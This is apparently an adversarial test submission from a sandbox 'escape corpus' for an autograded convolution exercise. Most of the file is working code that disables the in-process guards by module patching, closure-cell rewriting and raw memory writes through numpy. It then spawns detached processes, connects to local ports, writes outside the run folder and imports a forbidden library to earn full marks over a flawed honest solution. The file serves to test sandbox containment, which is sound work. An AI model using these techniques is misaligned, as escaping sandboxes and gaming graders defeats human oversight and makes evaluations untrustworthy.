"""Escape corpus, attack 3: disarming the in-process guards, three ways, then using the freedom.

What it attacks: the audit hook, the import blocker and the wrapped ``os.open`` are Python
objects inside the submission's own process, so the submission can rewrite them:

(a) module patching: the guard calls ``posixpath.realpath``, which looks up
    ``posixpath._joinrealpath`` at call time; replacing it makes every path look as if it
    were inside the run folder, and a plain ``open()`` writes to /tmp;
(b) closure cells: ``os.open.__closure__`` holds the guard's ``check_path``, whose cells
    hold the run folder, the hidden paths and the own pid; the meta-path finder's
    ``find_spec`` closure holds ``forbidden_module`` and its ``forbidden`` tuple. Cells are
    writable: the run folder becomes "" (everything is inside it), nothing is forbidden;
(c) raw memory through numpy's ``__array_interface__``: an array over any address (``id``
    gives one) blanks the audit hook's tuple of process events (its size field set to 0)
    and overwrites the "socket." / "ctypes." / "gc.get_" constants of its code, which the
    traceback of a refused call exposes (``f_locals`` of the hook's frame).

Then: tries to lift its own RLIMIT_AS (works where it keeps CAP_SYS_RESOURCE), ``os.system``
(a marker file and a detached ``sleep``), a TCP connection to 127.0.0.1 ports 47300-47309
(the test listens on one of them), ctypes, writes outside, and ``import torch`` (else scipy)
to compute the convolution for full marks.

A successful attack: ``cnngrade-escape-*`` files in /tmp, /var/tmp and the grader's cwd, a
connection reaching the test's listener, a leftover ``cnngrade-escape-proc`` process, and
20/20 from torch where the honest part earns less. Contained: whatever the child does to
its own guards, the kernel keeps the filesystem, network and processes out of reach, and
torch is not in the sandbox's view; the score is the honest part's.
"""
import os
import sys

REPORT = {}


def _guard_frame():
    """Provoke a refusal: the traceback holds the audit hook's frame, and its ``f_locals``
    show every variable of the guard's closure."""
    import socket
    try:
        socket.socket().close()
    except BaseException as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "audit":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def _set_cell(fn, name, value):
    code, cells = getattr(fn, "__code__", None), getattr(fn, "__closure__", None)
    if code is None or not cells or name not in code.co_freevars:
        return False
    cells[code.co_freevars.index(name)].cell_contents = value
    return True


def _cell(fn, name):
    code, cells = getattr(fn, "__code__", None), getattr(fn, "__closure__", None)
    if code is None or not cells or name not in code.co_freevars:
        return None
    return cells[code.co_freevars.index(name)].cell_contents


class _Everyone:
    """Compares equal to every pid: "is this my own process?" is always yes."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


def _by_module_patching():
    import posixpath
    here = os.path.dirname(os.path.abspath(__file__))
    original = posixpath._joinrealpath
    posixpath._joinrealpath = lambda path, rest, strict, seen: (os.path.join(here, "ok"), True)
    try:
        with open("/tmp/cnngrade-escape-modpatch.txt", "w") as fh:
            fh.write("cnngrade-escape: written after patching posixpath\n")
        return "wrote /tmp/cnngrade-escape-modpatch.txt"
    finally:
        posixpath._joinrealpath = original


def _by_closure_cells():
    done = []
    for finder in list(sys.meta_path):
        fn = getattr(finder, "find_spec", None)
        inner = _cell(getattr(fn, "__func__", fn), "forbidden_module")
        if inner is not None and _set_cell(inner, "forbidden", ()):
            done.append("forbidden=()")
    check_path = _cell(os.open, "check_path")
    if check_path is not None:
        for name, value in (("workdir", ""), ("hidden", ()), ("other_runs", "\0"),
                            ("my_pid", _Everyone())):
            if _set_cell(check_path, name, value):
                done.append(name)
    return done


def _poke(address, data):
    """Write bytes at any address: numpy trusts ``__array_interface__``."""
    import numpy as np

    class Raw:
        pass

    raw = Raw()
    raw.__array_interface__ = {"data": (address, False), "shape": (len(data),),
                               "typestr": "|u1", "version": 3}
    np.asarray(raw)[:] = np.frombuffer(data, dtype=np.uint8)


def _by_raw_memory(frame):
    done = []
    if frame is None:
        return done
    table = frame.f_locals.get("process_events")
    if isinstance(table, tuple) and table:
        _poke(id(table) + 16, (0).to_bytes(8, sys.byteorder))  # ob_size: the tuple is now ()
        done.append("process_events=()")
    for const in frame.f_code.co_consts:
        if isinstance(const, str) and const in ("socket.", "ctypes.", "gc.get_") and const.isascii():
            _poke(id(const) + sys.getsizeof(const) - len(const) - 1, b"~" * len(const))
            done.append(f"{const!r} blanked")
    return done


def _use_the_freedom():
    out = {}
    try:
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        out["rlimit"] = "AS unlimited"
    except Exception as exc:
        out["rlimit"] = repr(exc)
    try:
        out["system"] = os.system(
            "echo cnngrade-escape > /tmp/cnngrade-escape-disarm-system.txt; "
            "env -i setsid sh -c 'sleep 20; true' cnngrade-escape-proc-disarm "
            "</dev/null >/dev/null 2>&1 &")
    except BaseException as exc:
        out["system"] = repr(exc)
    try:
        import socket
        for port in range(47300, 47310):
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.3) as s:
                    s.sendall(b"cnngrade-escape: connected from the sandbox\n")
                    out["socket"] = f"connected to 127.0.0.1:{port}"
                    break
            except OSError:
                continue
        else:
            out["socket"] = "no listener reached"
    except BaseException as exc:
        out["socket"] = repr(exc)
    try:
        import ctypes
        out["ctypes"] = f"getpid()={ctypes.CDLL(None).getpid()}"
    except BaseException as exc:
        out["ctypes"] = repr(exc)
    targets = ["/tmp/cnngrade-escape-disarm.txt", "/var/tmp/cnngrade-escape-disarm.txt"]
    try:
        targets.append(os.path.join(os.readlink(f"/proc/{os.getppid()}/cwd"),
                                    "cnngrade-escape-disarm.txt"))
    except OSError:
        pass
    for path in targets:
        try:
            with open(path, "w") as fh:
                fh.write("cnngrade-escape: written after disarming the guards\n")
            out[path] = "written"
        except BaseException as exc:
            out[path] = repr(exc)
    for name in ("to" + "rch", "sci" + "py.signal"):
        try:
            __import__(name)
            out["import"] = name
            break
        except BaseException as exc:
            out["import " + name] = repr(exc)
    return out


def _attack():
    frame = _guard_frame()
    for step, fn in (("a", _by_module_patching), ("b", _by_closure_cells),
                     ("c", lambda: _by_raw_memory(frame))):
        try:
            REPORT[step] = fn()
        except BaseException as exc:
            REPORT[step] = repr(exc)
    REPORT.update(_use_the_freedom())


try:
    _attack()
except BaseException as exc:
    REPORT["error"] = repr(exc)
print("cnngrade-escape report:", REPORT)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def _pair(v):
    return (int(v), int(v)) if np.isscalar(v) else (int(v[0]), int(v[1]))


def _library_conv2d(x, w, b, stride, padding):
    """The convolution from a library the exercise forbids (only if its import worked)."""
    x, w, b = (np.asarray(a, dtype=np.float64) for a in (x, w, b))
    if REPORT.get("import") == "to" + "rch":
        torch = sys.modules["to" + "rch"]
        out = torch.nn.functional.conv2d(torch.from_numpy(x), torch.from_numpy(w),
                                         torch.from_numpy(b), stride=_pair(stride),
                                         padding=_pair(padding))
        return out.numpy()
    signal = sys.modules["sci" + "py.signal"]
    (sh, sw), (ph, pw) = _pair(stride), _pair(padding)
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    out = np.stack([np.stack([sum(signal.correlate(xp[n, c], w[f, c], mode="valid")
                                  for c in range(x.shape[1])) + b[f]
                              for f in range(w.shape[0])]) for n in range(x.shape[0])])
    return out[:, :, ::sh, ::sw]


def conv2d_forward(x, w, b, stride=1, padding=0):
    if "import" in REPORT:
        return _library_conv2d(x, w, b, stride, padding)
    return _honest_conv2d(x, w, b, stride, padding)
